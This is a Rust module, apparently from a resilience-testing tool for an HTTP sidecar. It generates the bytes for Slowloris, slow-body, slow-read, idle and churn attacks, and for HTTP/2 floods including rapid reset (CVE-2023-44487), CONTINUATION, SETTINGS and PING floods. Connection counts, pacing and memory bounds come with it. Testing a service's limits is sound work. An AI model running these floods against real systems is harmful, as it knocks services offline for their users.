//! The attacks by name: what each connection of one sends at first, then bit by bit, and how it reads.

use std::time::Duration;

use super::frames;

/// What the sidecar keeps for reuse, and what its allocator has not given back yet.
const FIXED_MIB: f64 = 16.0;
/// 256 connections of a worker that may have 256 KiB each read and not written.
const LARGE_MIB: f64 = 64.0;

/// One way to be a burden.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Kind {
    /// Request heads that come one byte at a time
    Slowloris,
    /// Request bodies that come one byte at a time
    SlowBody,
    /// Large answers that are read one byte at a time
    SlowRead,
    /// Connections that idle after one request
    Idle,
    /// A new connection for each request, closed after it
    Churn,
    /// HTTP/2: streams that are opened and reset at once (CVE-2023-44487)
    H2RapidReset,
    /// HTTP/2: a head that goes on in CONTINUATION frames for ever
    H2Continuation,
    /// HTTP/2: SETTINGS, whose acknowledgements are not read
    H2Settings,
    /// HTTP/2: PING, whose answers are not read
    H2Ping,
    /// HTTP/2: DATA frames without data
    H2EmptyData,
    /// HTTP/2: large answers on streams whose window stays closed
    H2Stall,
}

/// How a connection treats what it is sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Reads {
    /// Takes it in at once.
    All,
    /// One byte whenever it sends something itself.
    Slowly,
    /// Takes one answer in, then leaves.
    Once,
}

impl Kind {
    /// The name on the command line.
    pub(super) const fn name(self) -> &'static str {
        match self {
            Self::Slowloris => "slowloris",
            Self::SlowBody => "slow-body",
            Self::SlowRead => "slow-read",
            Self::Idle => "idle",
            Self::Churn => "churn",
            Self::H2RapidReset => "h2-rapid-reset",
            Self::H2Continuation => "h2-continuation",
            Self::H2Settings => "h2-settings",
            Self::H2Ping => "h2-ping",
            Self::H2EmptyData => "h2-empty-data",
            Self::H2Stall => "h2-stall",
        }
    }

    /// Connections unless the command line says otherwise. Floods need few; with more that do not read, the kernel's memory for
    /// TCP runs out first, for everybody on the machine.
    pub(super) const fn connections(self) -> usize {
        match self {
            Self::Slowloris | Self::SlowBody | Self::Idle => 5000,
            Self::H2Stall | Self::Churn => 1000,
            Self::SlowRead => 300,
            Self::H2RapidReset
            | Self::H2Continuation
            | Self::H2Settings
            | Self::H2Ping
            | Self::H2EmptyData => 100,
        }
    }

    /// Whether it asks for the large answer.
    pub(super) const fn wants_large(self) -> bool {
        matches!(self, Self::SlowRead | Self::H2Stall)
    }

    pub(super) const fn is_http2(self) -> bool {
        match self {
            Self::H2RapidReset
            | Self::H2Continuation
            | Self::H2Settings
            | Self::H2Ping
            | Self::H2EmptyData
            | Self::H2Stall => true,
            Self::Slowloris | Self::SlowBody | Self::SlowRead | Self::Idle | Self::Churn => false,
        }
    }

    pub(super) const fn reads(self) -> Reads {
        match self {
            Self::SlowRead => Reads::Slowly,
            Self::Churn => Reads::Once,
            Self::Slowloris
            | Self::SlowBody
            | Self::Idle
            | Self::H2RapidReset
            | Self::H2Continuation
            | Self::H2Settings
            | Self::H2Ping
            | Self::H2EmptyData
            | Self::H2Stall => Reads::All,
        }
    }

    /// Mean time between two pieces from one connection, and before the next connection after one that ended.
    pub(super) const fn pace(self) -> Duration {
        match self {
            Self::Slowloris | Self::SlowBody | Self::SlowRead | Self::Idle | Self::Churn => {
                Duration::from_millis(1000)
            }
            Self::H2RapidReset
            | Self::H2Continuation
            | Self::H2Settings
            | Self::H2Ping
            | Self::H2EmptyData
            | Self::H2Stall => Duration::from_millis(500),
        }
    }

    /// KiB of the sidecar's memory that one connection of it may pin (README, "Limits and bounds").
    const fn bound_kib(self) -> usize {
        match self {
            Self::Idle | Self::Churn => 2,
            Self::Slowloris => 32,
            // Of each direction, 16 KiB that are read and not written.
            Self::SlowBody | Self::SlowRead => 32 + 16,
            // What a turn reads and what it answers, 64 KiB each, and the few streams that are open before it is ended.
            Self::H2RapidReset
            | Self::H2Continuation
            | Self::H2Settings
            | Self::H2Ping
            | Self::H2EmptyData => 512,
            // Four streams with 64 KiB of an answer each, 16 KiB behind it, and the story of each.
            Self::H2Stall => 4 * (64 + 16 + 32),
        }
    }

    /// MiB that so many may pin together.
    pub(super) fn bound_mib(self, connections: usize) -> f64 {
        let large = if self.wants_large() { LARGE_MIB } else { 0.0 };
        FIXED_MIB + large + (connections * self.bound_kib()) as f64 / 1024.0
    }

    /// What a connection sends as soon as it is open.
    pub(super) fn opening(self) -> Vec<u8> {
        match self {
            Self::Slowloris => b"GET / HTTP/1.1\r\nhost: app\r\nx-slow: ".to_vec(),
            Self::SlowBody => {
                b"POST / HTTP/1.1\r\nhost: app\r\ncontent-length: 1000000\r\n\r\n".to_vec()
            }
            Self::SlowRead | Self::Idle | Self::Churn => {
                b"GET / HTTP/1.1\r\nhost: app\r\n\r\n".to_vec()
            }
            Self::H2RapidReset | Self::H2Settings | Self::H2Ping => frames::preface(None),
            Self::H2Continuation => [
                frames::preface(None),
                frames::frame(frames::HEADERS, 0, 1, &frames::GET),
            ]
            .concat(),
            Self::H2EmptyData => [
                frames::preface(None),
                frames::frame(frames::HEADERS, frames::END_HEADERS, 1, &frames::POST),
            ]
            .concat(),
            Self::H2Stall => {
                let all = frames::END_HEADERS | frames::END_STREAM;
                let streams =
                    (0..4).map(|n| frames::frame(frames::HEADERS, all, 2 * n + 1, &frames::GET));
                [frames::preface(Some(0))]
                    .into_iter()
                    .chain(streams)
                    .collect::<Vec<_>>()
                    .concat()
            }
        }
    }

    /// The `n`-th piece of what it sends from then on; empty: nothing.
    pub(super) fn piece(self, n: u32) -> Vec<u8> {
        match self {
            Self::Slowloris | Self::SlowBody => b"x".to_vec(),
            Self::SlowRead | Self::Idle | Self::Churn | Self::H2Stall => Vec::new(),
            Self::H2RapidReset => (0..200)
                .flat_map(|k| frames::opened_and_reset(2 * (200 * n + k) + 1))
                .collect(),
            Self::H2Continuation => {
                frames::frame(frames::CONTINUATION, 0, 1, &frames::FIELD).repeat(500)
            }
            Self::H2Settings => frames::frame(frames::SETTINGS, 0, 0, &[]).repeat(2000),
            Self::H2Ping => frames::frame(frames::PING, 0, 0, &[0; 8]).repeat(2000),
            Self::H2EmptyData => frames::frame(frames::DATA, 0, 1, &[]).repeat(2000),
        }
    }
}

#[cfg(test)]
mod tests {
    use clap::ValueEnum;

    use super::*;

    #[test]
    fn every_kind_is_named_as_on_the_command_line() {
        for kind in Kind::value_variants() {
            let name = kind
                .to_possible_value()
                .map(|value| value.get_name().to_owned());
            assert_eq!(name.as_deref(), Some(kind.name()));
        }
    }

    #[test]
    fn pieces_of_a_rapid_reset_never_use_a_stream_twice() {
        let ids = |n| {
            let bytes = Kind::H2RapidReset.piece(n);
            let mut ids = std::collections::BTreeSet::new();
            let mut rest = bytes.as_slice();
            while let [a, b, c, kind, _, w, x, y, z, tail @ ..] = rest {
                if *kind == frames::HEADERS {
                    assert!(ids.insert(u32::from_be_bytes([*w, *x, *y, *z])));
                }
                rest = &tail[u32::from_be_bytes([0, *a, *b, *c]) as usize..];
            }
            ids
        };
        let (first, second) = (ids(0), ids(1));
        assert_eq!((first.len(), second.len()), (200, 200));
        assert!(first.last() < second.first());
    }
}
